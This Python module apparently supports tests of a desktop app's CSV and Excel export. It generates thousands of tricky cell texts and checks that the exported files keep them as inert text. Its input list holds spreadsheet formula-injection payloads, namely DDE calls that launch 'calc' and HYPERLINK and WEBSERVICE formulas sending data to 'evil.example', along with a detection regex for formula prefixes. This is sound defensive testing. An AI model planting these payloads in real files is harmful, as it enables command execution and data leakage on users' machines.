"""Texts that a spreadsheet would reckon with, follow or choke on, through files and back."""

import csv
import io
import re
import zipfile
from array import array
from collections.abc import Iterator, Sequence
from itertools import product
from random import Random
from typing import Any

from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from desktop.catalog.declare import Dataset
from desktop.catalog.orders import ORDERS
from desktop.catalog.query import Query, Row
from desktop.export import Form, export
from desktop.text import Style

COLUMN = "order_id"
LONGEST = 32_767  # what a cell of Excel holds
_FRONT = (
    "",
    " ",
    "   ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\xa0",
    "\u3000",
    "\u200b",
    "\ufeff",
    "'",
    '"',
    '""',
    "\x00",
    "\u202e",
)
_SIGN = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "==", "=+", "@=", "-+", "")
_BODY = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example/?"&A1,"x")',
    'DDE("cmd";"/C calc")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'WEBSERVICE("https://evil.example")',
    'IMPORTXML("//e";"//a")',
    "A1",
    "2+5+cmd",
    '","=1+1',
    '"\n=1+1',
    ";=1+1",
    "\n=1+1",
    "\r\n+1",
    "x" * 40_000,
    "'=1",
    "'",
    "1,000",
    "5%",
    "</t></is></c><c><f>1+1</f></c>",
    "]]><f>1</f>",
    "&lt;f&gt;",
    "_x003D_1",
    "\ud800",
    "\x01\x0b\x1f",
    "\ufffe",
    "https://evil.example",
    "mailto:a@b",
    "file:///c:/x",
    "\\\\evil\\share",
    "00123",
    "1e5",
    "TRUE",
    "#N/A",
    "2026-01-01",
    "<b>x</b>",
    "{=1}",
    "张三",
    "👩‍👩‍👧",
    "R1C1",
    "$A$1",
    "a\tb",
    "a\x85b\u2028c",
)
_FORMULA = re.compile(r"[\s\u200b-\u200d\u2060\ufeff\0]*[=+\-@＝＋－＠\t\r]")
_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")


def cells(count: int, seed: int) -> list[str]:
    """So many different texts, the same for a seed."""
    made = list(dict.fromkeys("".join(each) for each in product(_FRONT, _SIGN, _BODY)))
    Random(seed).shuffle(made)
    return made[:count]


class _Shelf:
    """Rows in memory, given out as a session gives them."""

    def __init__(self, texts: Sequence[str]) -> None:
        self._texts = texts

    async def ids(self, query: Query) -> "array[int]":
        return array("q", range(len(self._texts)))

    async def chosen(
        self, dataset: Dataset, names: Sequence[str], ids: Sequence[int]
    ) -> Sequence[Row]:
        return [
            (*(self._texts[at] if name == COLUMN else None for name in names), None) for at in ids
        ]


async def exported(texts: Sequence[str], form: Form, *, raw: bool) -> bytes:
    """A file with these texts in one column."""
    stream = io.BytesIO()
    await export(
        _Shelf(texts), Query(ORDERS), [COLUMN], stream, form, unmasked=True, raw=raw, style=Style()
    )
    return stream.getvalue()


def faults_of_csv(texts: Sequence[str], data: bytes) -> Iterator[str]:
    """Texts that are another row, another cell, or a formula in a file of CSV."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1:]
    if len(rows) != len(texts):
        yield f"{len(rows)} rows of {len(texts)}"
    for text, row in zip(texts, rows, strict=False):
        if len(row) != 1 or not row[0].endswith(_storable(text)):
            yield f"{text[:60]!r} became {[each[:60] for each in row]}"
        elif _FORMULA.match(row[0]) and not _NUMBER.fullmatch(row[0]):
            yield f"a formula: {text[:60]!r}"


def faults_of_xlsx(texts: Sequence[str], data: bytes) -> Iterator[str]:
    """Texts that are no texts in a workbook, to two programs that read it."""
    with zipfile.ZipFile(io.BytesIO(data)) as file:
        odd = [name for name in file.namelist() if re.search("external|link|macro|dde", name, re.I)]
        for name in file.namelist():
            odd += re.findall(rb"<f[ >]|<hyperlink|<oleLink|ddeLink", file.read(name))[:1]
    yield from (f"in the file: {each!r}" for each in odd)
    page: Any = load_workbook(io.BytesIO(data)).active
    read = [*page.iter_rows(min_row=2, max_col=1)]
    other = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()[1:]
    if not len(texts) == len(read) == len(other):
        yield f"{len(read)} and {len(other)} rows of {len(texts)}"
    for text, (cell,), row in zip(texts, read, other, strict=False):
        if cell.data_type not in ("s", "inlineStr") or cell.hyperlink is not None:
            yield f"{cell.data_type} to openpyxl: {text[:60]!r}"
        if type(row[0]) is not str:
            yield f"{type(row[0]).__name__} to calamine: {text[:60]!r}"
        elif _seen(row[0]) != _seen(_short(text)):
            yield f"{text[:60]!r} is {row[0][:60]!r} to calamine"


def _storable(text: str) -> str:
    return text.encode("utf-8", "replace").decode("utf-8")


def _short(text: str) -> str:
    return text if len(text) <= LONGEST else f"{text[: LONGEST - 1]}…"


def _seen(text: str) -> str:
    """A text as far as XML can hold it: control signs are escaped or left out."""
    plain = re.sub("_x([0-9A-Fa-f]{4})_", lambda found: chr(int(found[1], 16)), _storable(text))
    return re.sub(
        r"[\x00-\x08\x0b\x0c\x0e-\x1f\r\n\x85\u2028\ufffe\uffff?\ufffd]|_x005F_?", "", plain
    )
